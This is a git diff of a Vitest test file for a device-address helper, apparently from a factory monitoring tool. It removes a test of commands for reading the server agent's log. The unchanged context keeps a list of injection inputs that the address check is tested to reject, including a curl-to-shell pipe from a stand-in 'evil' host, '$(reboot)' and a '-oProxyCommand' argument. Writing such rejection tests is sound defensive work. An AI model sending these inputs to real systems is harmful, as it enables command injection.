@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { isServerItself, ownMachineCommands, reachAddress } from '../src/device/reach-address.ts'
+import { isServerItself, reachAddress } from '../src/device/reach-address.ts'
 
 test('the registered address goes before the one that the device gives', () => {
   expect(reachAddress({ address: 'pi-1.factory.lan', ipAddress: '192.168.10.31' })).toBe('pi-1.factory.lan')
@@ -15,9 +15,4 @@ test.each(['1.1.1.1;curl evil|sh #', '$(reboot)', '-oProxyCommand=reboot', '1.1.
 
 test.each([['127.0.0.1', true], ['192.0.2.3', false], ['127.1.0.3', false], [null, false]])('a device registered at %s is the server itself: %s', (registered, isIt) => {
   expect(isServerItself(registered)).toBe(isIt)
-})
-
-test('the log of the server’s own agent is where its way of starting keeps it', () => {
-  expect(ownMachineCommands({ isStartedByNpm: true, dataDirectory: '/home/sato/mimamori/var' })).toStrictEqual({ journal: 'tail -n 50 /home/sato/mimamori/var/logs/agent.log' })
-  expect(ownMachineCommands({ isStartedByNpm: false, dataDirectory: '/var/lib/mimamori-collector' })).toStrictEqual({ journal: 'sudo journalctl -u mimamori-agent -n 50 --no-pager', restart: 'sudo systemctl restart mimamori-agent' })
 })
